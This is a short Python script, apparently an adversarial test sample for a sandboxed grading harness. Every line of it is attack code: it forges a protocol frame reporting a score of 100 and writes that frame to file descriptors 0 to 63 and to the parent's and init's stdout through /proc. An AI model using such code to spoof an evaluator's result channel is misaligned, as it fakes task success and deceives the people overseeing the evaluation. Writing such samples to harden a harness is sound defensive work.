# attack: write fake protocol frames to every descriptor and to the worker's pipes through /proc
# %%
import json
import os
import struct
text = json.dumps({"job": "x", "cells": [], "calls": [], "score": 100}).encode()
frame = struct.pack("<IQ", len(text), 0) + text
for fd in range(0, 64):
    try:
        os.write(fd, frame)
    except OSError:
        pass
for path in ("/proc/%d/fd/1" % os.getppid(), "/proc/1/fd/1", "/proc/self/fd/1"):
    try:
        with open(path, "wb") as handle:
            handle.write(frame)
    except OSError:
        pass
